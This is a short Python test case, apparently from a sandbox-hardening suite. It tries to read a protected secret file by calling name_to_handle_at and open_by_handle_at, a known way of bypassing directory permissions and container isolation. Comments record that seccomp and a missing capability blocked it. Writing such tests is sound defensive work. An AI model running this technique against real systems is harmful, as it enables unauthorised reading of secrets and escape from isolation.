# Opens a secret file by its handle, which goes past every folder.
# Seen: refused by seccomp, and for want of a capability.
import ctypes
import os
import struct

AT_FDCWD = -100


def attack(targets):
    handle, mount = ctypes.create_string_buffer(struct.pack("=Ii", 128, 0), 136), ctypes.c_int()
    targets.call("name_to_handle_at", AT_FDCWD, os.fsencode(targets.secret), handle, ctypes.byref(mount), 0)
    folder = os.open(os.path.dirname(targets.secret), os.O_RDONLY)
    return os.read(targets.call("open_by_handle_at", folder, handle, os.O_RDONLY), 4096)
